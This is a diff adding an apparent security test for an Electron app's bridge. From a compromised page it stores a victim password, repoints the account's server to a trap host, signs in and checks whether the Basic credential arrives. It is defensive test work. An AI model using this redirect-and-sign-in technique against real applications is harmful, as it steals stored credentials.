@@ -1,0 +1,75 @@
+import type { Answer } from '../../../app/contract/envelope.ts';
+import { firstSign, type Attack, type Outcome } from './stage.ts';
+import type { Trap } from './trap.ts';
+
+/** What a lost page has: the bridge, and a server that would gain by it. */
+export interface LostPage {
+  readonly call: (name: string, input: unknown) => Promise<Answer>;
+  readonly trap: Trap;
+}
+
+/** Well-formed calls with a bad purpose: each is one that a person could make as well. */
+export interface PurposeAttack {
+  readonly name: string;
+  readonly run: (page: LostPage) => Promise<Outcome>;
+}
+
+const valueOf = (answer: Answer): Readonly<Record<string, unknown>> =>
+  answer.ok && typeof answer.value === 'object' && answer.value !== null
+    ? (answer.value as Readonly<Record<string, unknown>>)
+    : {};
+
+/** An account with a stored password at a server that is not the attacker's and never answers. */
+const withVictim = async (
+  { call }: LostPage,
+  password: string,
+  attack: (accountId: string, values: Readonly<Record<string, string>>) => Promise<Outcome>,
+): Promise<Outcome> => {
+  const values = { region: 'own', server: 'http://localhost:9', account: 'ada' };
+  const account = { vendorId: 'huawei-cloud-meeting', label: 'victim', values, secrets: { password } };
+  const { accountId } = valueOf(await call('account.add', account));
+  if (typeof accountId !== 'string') throw new Error('The account of the victim was not added');
+  try {
+    return await attack(accountId, values);
+  } finally {
+    await call('account.remove', { accountId });
+  }
+};
+
+const passwordElsewhere: PurposeAttack = {
+  name: 'a purpose: the stored password sent to another server',
+  run: (page) => {
+    const password = 'the-stored-password';
+    return withVictim(page, password, async (accountId, values) => {
+      const elsewhere = { ...values, server: page.trap.origin };
+      const edited = await page.call('account.edit', { accountId, label: 'victim', values: elsewhere, secrets: {} });
+      if ('issues' in valueOf(edited)) return 'refused';
+      const signedIn = await page.call('account.sign-in', { accountId, secrets: {} });
+      if (!signedIn.ok) return 'refused';
+      const basic = Buffer.from(`ada:${password}`).toString('base64');
+      return firstSign({ 'the password arrived': () => page.trap.hasReceived(basic) });
+    });
+  },
+};
+
+/** All of them. */
+export const purposes: readonly PurposeAttack[] = [passwordElsewhere];
+
+/** The same from a page in Electron. */
+export const purposeAttacks: readonly Attack[] = purposes.map(({ name, run }): Attack => ({
+  name,
+  run: ({ page, trap }) =>
+    run({
+      trap,
+      call: (request, input) =>
+        page.evaluate(
+          ([calledName, calledInput]) => {
+            const bridge = Reflect.get(globalThis, 'gavelBridge') as {
+              call(name: unknown, input: unknown): Promise<Answer>;
+            };
+            return bridge.call(calledName, calledInput);
+          },
+          [request, input] as const,
+        ),
+    }),
+}));
